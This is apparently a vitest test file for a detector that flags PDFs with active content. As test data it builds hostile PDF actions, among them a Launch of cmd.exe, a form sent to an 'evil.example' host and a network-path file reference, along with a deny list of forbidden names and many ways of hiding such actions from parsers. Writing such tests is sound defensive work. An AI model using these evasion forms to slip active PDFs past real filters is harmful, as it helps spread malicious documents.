import { readdirSync, readFileSync } from 'node:fs'
import { describe, expect, it, test } from 'vitest'
import { isActivePdf } from './active-pdf.ts'
import { isPdf } from './is-pdf.ts'
import { toBytes, writePack, writePdf } from './write-pdf.fixture.ts'

const SAMPLES = new URL('../../../../../../tests/pdf-samples/', import.meta.url)
const listSamples = (folder: string): string[] => readdirSync(new URL(folder, SAMPLES))
const readSample = (path: string): Uint8Array => new Uint8Array(readFileSync(new URL(path, SAMPLES)))

const ACTIONS: Readonly<Record<string, string>> = {
  'a script': '<</S/JavaScript/JS(app.alert\\(1\\))>>',
  'a script of a rendition': '<</S/Rendition/JS(app.alert\\(1\\))>>',
  'a program': '<</S/Launch/F(cmd.exe)>>',
  'a form that is sent': '<</S/SubmitForm/F(https://evil.example)>>',
  'data that is loaded': '<</S/ImportData/F(a.fdf)>>',
  'another file': '<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>',
  'a file inside': '<</S/GoToE/T<</R/C/N(a.pdf)>>>>',
  'layers that change': '<</S/SetOCGState/State[/OFF 3 0 R]>>',
  'a field that hides': '<</S/Hide/T(a)>>',
  'a sound': '<</S/Sound/Sound 3 0 R>>',
  'a film': '<</S/Movie/T(a)>>',
  'an action that nobody knows': '<</S/Whatever>>',
  'an action whose kind is somewhere else': '<</S 4 0 R>>',
  'an action of two kinds': '<</S/GoTo/S/Hide/D[3 0 R/Fit]>>',
  'a harmless action before another': '<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(a)>><</S/Hide/T(a)>>]>>',
}

/** Where an action may be, as entries of a catalog. */
const PLACES: Readonly<Record<string, (action: string) => string>> = {
  'when it is opened': (action) => `/OpenAction ${action}`,
  'on a page': (action) => `/AA<</O ${action}>>`,
  'on a link': (action) => `/Annots[<</Subtype/Link/A ${action}>>]`,
  'before a link': (action) => `/Annots[<</Subtype/Link/PA ${action}>>]`,
  'behind a link': (action) => `/Annots[<</Subtype/Link/A<</S/GoTo/D(a)/Next[${action}]>>>>]`,
}

/** Each way to write the same file, in which the last object is the action. */
const FORMS: Readonly<Record<string, (place: (action: string) => string, action: string) => Uint8Array>> = {
  'in its place': (place, action) => writePdf(place(action)),
  'behind a reference': (place, action) => writePdf(place('4 0 R'), [action]),
  'behind two references': (place, action) => writePdf(place('4 0 R'), ['5 0 R', action]),
  'with its names in numbers': (place, action) =>
    writePdf(place(action.replace(/\/S(\w)/g, '/#53$1').replace(/\/S\b/g, '/#53'))),
  'in a pack': (place, action) => writePdf(place('10 0 R'), [writePack([action])]),
  'in a pack, with its place': (place, action) => writePdf('', [writePack([`<<${place('11 0 R')}>>`, action])]),
  'after an update': (place, action) =>
    writePdf(place('4 0 R'), ['<</S/GoTo/D[3 0 R/Fit]>>'], `4 0 obj\n${action}\nendobj\nstartxref\n0\n%%EOF\n`),
  'before an update': (place, action) =>
    writePdf(place('4 0 R'), [action], '4 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\nstartxref\n0\n%%EOF\n'),
}

describe.each(Object.entries(FORMS))('an action %s', (_, write) => {
  it.each(Object.entries(ACTIONS))('that is %s is refused wherever it is', (_, action) => {
    const accepted = Object.entries(PLACES).filter(([, place]) => !isActivePdf(write(place, action)))
    expect(accepted.map(([name]) => name)).toEqual([])
  })
})

it.each(Object.entries(FORMS))('an action %s that opens an address is accepted wherever it is', (_, write) => {
  const accepted = Object.entries(PLACES).filter(([, place]) => !isActivePdf(write(place, '<</S/URI/URI(a)>>')))
  expect(accepted).toHaveLength(Object.keys(PLACES).length)
})

it('an action that says it is one is refused without a key that leads to it', () => {
  expect(isActivePdf(writePdf('/Whatever<</Type/Action/S/Hide/T(a)>>'))).toBe(true)
  expect(isActivePdf(writePdf('/Whatever<</Type/Action>>'))).toBe(true)
})

const NAMES = ['JS', 'JavaScript', 'XFA', 'RichMedia', 'EmbeddedFile', 'EmbeddedFiles', 'Launch', 'Encrypt']

it.each(NAMES)('/%s is refused as a key, as a value, in numbers, in a pack and at the end of a file', (name) => {
  const numbered = `#${name.charCodeAt(0).toString(16)}${name.slice(1)}`
  const written = [
    writePdf(`/${name} 3 0 R`),
    writePdf(`/Whatever[/${name}]`),
    writePdf(`/${numbered}(a)`),
    // PDFium ends a name at these two bytes.
    writePdf(`/${name}\x80 3 0 R`),
    writePdf(`/${name}\xff 3 0 R`),
    writePdf('', [`/${name}`]),
    writePdf('', [writePack([`<</${name}(a)>>`])]),
    writePdf('', [`<</${name} 3 0 R/Length 1>>stream\n \nendstream`]),
    writePdf('', [], `trailer<</Root 1 0 R/${name} 4 0 R>>\nstartxref\n0\n%%EOF\n`),
  ]
  expect(written.map((bytes) => isActivePdf(bytes))).toEqual(written.map(() => true))
})

const WORDS = [
  'obj',
  'stream',
  'endstream',
  'endobj',
  '1 0 obj',
  '>>stream',
  '/Filter/ASCIIHexDecode',
  'trailer',
  '%',
  ')',
]
const inString = (word: string): string => word.replace(/[()\\]/g, '\\$&')
/** Ways to write a word where it means nothing. */
const WRAPPINGS: Readonly<Record<string, (word: string) => string>> = {
  'a string': (word) => `/X (${inString(word)}) `,
  'a string in brackets': (word) => `/X ((${inString(word)}) ) `,
  'a name': (word) => `/X /${word.replace(/[^\w]/g, (sign) => `#${sign.charCodeAt(0).toString(16)}`)} `,
  'a hex string': (word) => `/X <${Array.from(word, (sign) => sign.charCodeAt(0).toString(16)).join('')}> `,
  'a broken hex string': (word) => `/X <${word}> `,
  'a comment': (word) => ` %${word}\n`,
  'a dictionary': (word) => `/X <</Y (${inString(word)})>> `,
}
const SCRIPT = ACTIONS['a script'] ?? ''

describe.each(Object.entries(WRAPPINGS))('a script in a pack with %s', (_, wrap) => {
  it.each(WORDS)('with %s before or behind each key of it is refused', (word) => {
    for (const disguise of [{ before: wrap(word) }, { behind: ` ${wrap(word)}` }]) {
      expect(
        isActivePdf(writePdf('/OpenAction 10 0 R', [writePack([SCRIPT], disguise)])),
        JSON.stringify(disguise),
      ).toBe(true)
    }
  })
})

it.each(Object.entries(WRAPPINGS).filter(([name]) => !name.includes('broken')))(
  'a harmless pack with %s in its keys is accepted',
  (_, wrap) => {
    for (const word of ['obj', 'stream', 'endobj', 'trailer'])
      for (const disguise of [{ before: wrap(word) }, { behind: ` ${wrap(word)}` }])
        expect(isActivePdf(writePdf('/OpenAction 10 0 R', [writePack(['null'], disguise)])), word).toBe(false)
  },
)

const HIDDEN = `9 0 obj ${SCRIPT} endobj`
it.each([
  ['a string', `(${HIDDEN.replaceAll('(', '\\(').replaceAll(')', '\\)')})`],
  ['a hex string', `<${HIDDEN}`],
  ['a hex string that some readers take for a dictionary', `<#53/Launch/F(cmd.exe)>`],
  ['a comment', `null %${HIDDEN}\n`],
  ['a comment between the parts of its head', `null % 9 %\n0 %\n obj ${SCRIPT}\n`],
  ['a stream', `<</Length 99>>stream\n${HIDDEN}\nendstream`],
  ['a stream that is shorter than it says', `<</Length 1>>stream\n \nendstream endobj ${HIDDEN} endstream`],
  ['a stream that is longer than it says', `<</Length 2>>stream\n \n ${HIDDEN} endstream`],
  ['a stream without an end', `<</Length 1>>stream\n \n ${HIDDEN}`],
  ['an open dictionary', `<</X ${HIDDEN}`],
  ['an open string', `(${HIDDEN}`],
  ['a name', `/X${HIDDEN}`],
  ['what follows a value', `null ${HIDDEN}`],
  ['what follows a value, without the word for an object', `null endobj 9 0 abc ${SCRIPT}`],
  ['a string, as the end of a file', `(trailer<</Root<</OpenAction ${inString(SCRIPT)}>>>>)`],
  ['a stream with spaces that only some readers take for such', `<<>>stream\n9\x800\xffobj ${SCRIPT}\nendstream`],
])('an object that an index may find in %s is refused', (_, object) => {
  expect(isActivePdf(writePdf('/OpenAction 9 0 R', [object]))).toBe(true)
})

describe('packed objects', () => {
  const pack = (entries: string, content: string): Uint8Array =>
    writePdf('', [`<<${entries}/Length ${content.length}>>stream\n${content}\nendstream`])

  it.each([
    ['whose index points into a string', pack('/Type/ObjStm/N 1/First 5', `10 1 (${inString(SCRIPT)})`)],
    ['whose index points into a comment', pack('/Type/ObjStm/N 1/First 5', `10 1 %${SCRIPT}\nnull`)],
    ['whose index points behind it', pack('/Type/ObjStm/N 1/First 5', '10 9 null')],
    ['whose index says two first places', pack('/Type/ObjStm/N 1/First 5/First 6', `10 0 null`)],
    ['that do not say their type', pack('/N 1/First 5', `10 0 ${SCRIPT}`)],
    ['that are packed in a second way', pack('/Type/ObjStm/N 1/First 5/F/ASCIIHexDecode', '10 0 null')],
    ['that are packed with a predictor', pack('/Type/ObjStm/N 1/First 5/DecodeParms<</Predictor 12>>', '10 0 null')],
    ['whose filter is somewhere else', pack('/Type/ObjStm/N 1/First 5/Filter 3 0 R', '10 0 null')],
    ['that are no zlib', pack('/Type/ObjStm/N 1/First 5/Filter/FlateDecode', '10 0 null')],
  ])('%s are refused', (_, bytes) => {
    expect(isActivePdf(bytes)).toBe(true)
  })

  it('that are not packed at all are accepted', () => {
    expect(isActivePdf(pack('/Type/ObjStm/N 2/First 10', '10 0 11 5 null <</A 3 0 R>>'))).toBe(false)
  })
})

it.each([
  ['a page to open at', writePdf('/OpenAction[3 0 R/Fit]')],
  [
    'harmless actions',
    writePdf('/OpenAction 4 0 R', ['<</Type/Action/S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>', '<</S/Named/N/NextPage>>']),
  ],
  ['an address', writePdf('/Annots[<</A<</S/URI/URI(https://example.org/a%20b)>>>>]')],
  [
    'outlines',
    writePdf('/Outlines 4 0 R', [
      '<</First 5 0 R/Last 6 0 R>>',
      '<</Title(a)/Next 6 0 R/A<</S/GoTo/D(x)>>>>',
      '<</Title(b)/SE 7 0 R>>',
      '<</S/P>>',
    ]),
  ],
  [
    'structure and its attributes',
    writePdf('/StructTreeRoot<</K<</S/Table/A[4 0 R<</O/Layout/Placement/Block>>]/K<</S/Hide/P 1 0 R>>>>>>', [
      '<</O/Table/Scope/Row>>',
    ]),
  ],
  [
    'labels, transitions and groups',
    writePdf('/PageLabels<</Nums[0<</S/D>>]>>/Trans<</S/Fade>>/Group<</S/Transparency>>'),
  ],
  [
    'a picture and a state called as a key of actions',
    writePdf('/Resources<</XObject<</A 4 0 R/AA 4 0 R>>/ExtGState<</AA<</SMask<</S/Alpha>>>>>>>>', [
      '<</Subtype/Form/Group<</S/Transparency>>/Length 1>>stream\n \nendstream',
    ]),
  ],
  ['forbidden names in strings and comments', writePdf('/Title(/JavaScript /JS \\(/Launch\\))%/Encrypt\n')],
  [
    'forbidden names in the content of a page',
    writePdf('', ['<</Length 40>>stream\nBT (/JavaScript) Tj /XFA Do (1 object) Tj ET\nendstream']),
  ],
  ['a wrong length', writePdf('', ['<</Length 4000>>stream\nBT ET\nendstream'])],
  ['a length somewhere else', writePdf('', ['<</Length 5 0 R>>stream\nBT ET\nendstream', '5'])],
  [
    'lines that end as on an old Mac',
    toBytes('%PDF-1.2\r1 0 obj\r<</Type/Catalog>>\rendobj\rtrailer<</Root 1 0 R>>\r%%EOF'),
  ],
  ['an object without a value', writePdf('', [''])],
  ['stray bytes between objects', writePdf('', ['null endobj >> ) } garbage'])],
  ['something before its first line', toBytes(`\n\0 HTTP junk (\n%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF`)],
  ['something behind its last line', writePdf('', [], '<html><script>alert(1)</script></html>')],
  [
    'an index of both kinds',
    writePdf(
      '',
      [
        `<</Type/XRef/W[1 2 1]/Index[0 3]/Size 3/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>/Root 1 0 R/Length 3>>stream\nabc\nendstream`,
      ],
      'trailer<</XRefStm 9>>',
    ),
  ],
  ['numbers written badly', writePdf('/X[-.5 +1 1. 1e-7 4.-2 - 0012 99999999999999999999 nan]')],
])('an honest PDF with %s is accepted', (_, bytes) => {
  expect(isActivePdf(bytes)).toBe(false)
})

test.each(listSamples('accepted'))('%s, as a program wrote it, is accepted', (name) => {
  const bytes = readSample(`accepted/${name}`)
  expect([isPdf(bytes), isActivePdf(bytes)]).toEqual([true, false])
})

test.each(listSamples('refused'))('%s, as a program wrote it, is refused', (name) => {
  expect(isActivePdf(readSample(`refused/${name}`))).toBe(true)
})

test('the samples are of many programs', () => {
  const programs = new Set(listSamples('accepted').map((name) => name.replace(/-.*|\.pdf$/g, '')))
  expect(listSamples('accepted').length).toBeGreaterThanOrEqual(30)
  expect(programs.size).toBeGreaterThanOrEqual(8)
})
